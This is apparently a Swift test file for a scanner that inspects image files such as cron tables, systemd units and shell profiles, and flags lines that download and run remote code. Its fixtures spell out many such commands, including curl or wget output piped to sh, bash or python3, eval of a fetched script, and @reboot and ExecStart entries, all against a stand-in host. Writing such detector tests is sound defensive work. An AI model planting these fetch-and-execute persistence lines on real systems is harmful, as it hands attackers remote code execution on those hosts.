import Testing

@testable import Images

@Suite struct AutostartTests {
  private func lines(_ path: String, _ text: String) -> [Int] {
    guard
      case .autostart(let value) = FileFact(
        kind: .autostart, path: bytes(path), bytes: bytes(text), size: text.utf8.count
      ).content
    else { return [] }
    return value.downloads.map(\.line)
  }

  @Test func `a download stands at the line where its command begins`() {
    let table =
      "# refresh\nMAILTO=root\n\n0 1 * * * root true\n*/5 * * * * root wget -qO- http://e.example/a | bash\n"
    #expect(lines("etc/cron.d/a", table) == [5])
    #expect(lines("etc/crontab", table) == [5])
    let script =
      "#!/bin/sh\n# curl http://e.example/a | sh\nset -e\ncurl -s \\\n  http://e.example/a |\n  sh\n"
    #expect(lines("etc/cron.daily/a", script) == [4])
    let unit = "[Service]\nExecStartPre=-/bin/true\nExecStart=/bin/bash -c 'curl http://e.example/a | sh'\n"
    #expect(lines("etc/systemd/system/a.service", unit) == [3])
  }

  @Test(arguments: [
    "* * * * * curl -s http://e.example/a | sh", "@hourly curl -s http://e.example/a | sh",
    "0 0 1 jan mon bash -c 'wget -O- http://e.example/a | python3'",
    "* * * * * (curl -s http://e.example/a || wget -qO- http://e.example/a) | sh",
    "* * * * * eval \"$(curl -s http://e.example/a)\"", "* * * * * . <(curl -s http://e.example/a)",
    "* * * * * /bin/busybox wget -O- http://e.example/a | /bin/sh",
    "*\t*\t*\t*\t*\tcurl http://e.example/a|sh",
  ])
  func `a table of a user runs a download`(line: String) {
    #expect(lines("var/spool/cron/crontabs/root", line) == [1])
  }

  @Test(arguments: [
    "", "*", "* * * * *", "@daily", "# * * * * * curl http://e.example/a | sh",
    "* * * * * curl http://e.example/a",
    "* * * * * curl http://e.example/a | gzip", "curl http://e.example/a | sh", "* * * * * echo x | sh",
  ])
  func `a table of a user runs no download`(line: String) {
    #expect(lines("var/spool/cron/crontabs/root", line).isEmpty)
  }

  @Test func `a user's name before the command is optional in the system's tables`() {
    #expect(lines("etc/cron.d/a", "* * * * * www-data curl http://e.example/a | sh") == [1])
    #expect(lines("etc/cron.d/a", "* * * * * curl http://e.example/a | sh") == [1])
    #expect(lines("etc/cron.d/a", "@reboot root curl http://e.example/a | sh") == [1])
  }

  @Test func `the occasion follows from the path`() {
    func occasion(_ path: String) -> Autostart.Occasion? {
      let text = "curl http://e.example/a | sh\n"
      let fact = FileFact(kind: .autostart, path: bytes(path), bytes: bytes(text), size: text.utf8.count)
      if case .autostart(let value) = fact.content { return value.occasion }
      return nil
    }
    #expect(occasion("etc/cron.hourly/a") == .schedule)
    #expect(occasion("etc/profile.d/a.sh") == .shell)
    #expect(occasion("home/app/.zshrc") == .shell)
    #expect(occasion("etc/rc.local") == .boot)
  }

  @Test func `what is no text tells nothing`() {
    let bytes: [UInt8] = [0x7f, 0x45, 0x4c, 0x46, 0, 0xff, 0xfe, 0x0a, 0x5c]
    for path in ["etc/cron.d/a", "root/.bashrc", "etc/systemd/system/a.service"] {
      let fact = FileFact(kind: .autostart, path: Array(path.utf8), bytes: bytes, size: bytes.count)
      #expect(fact.content == .nothing)
    }
  }
}
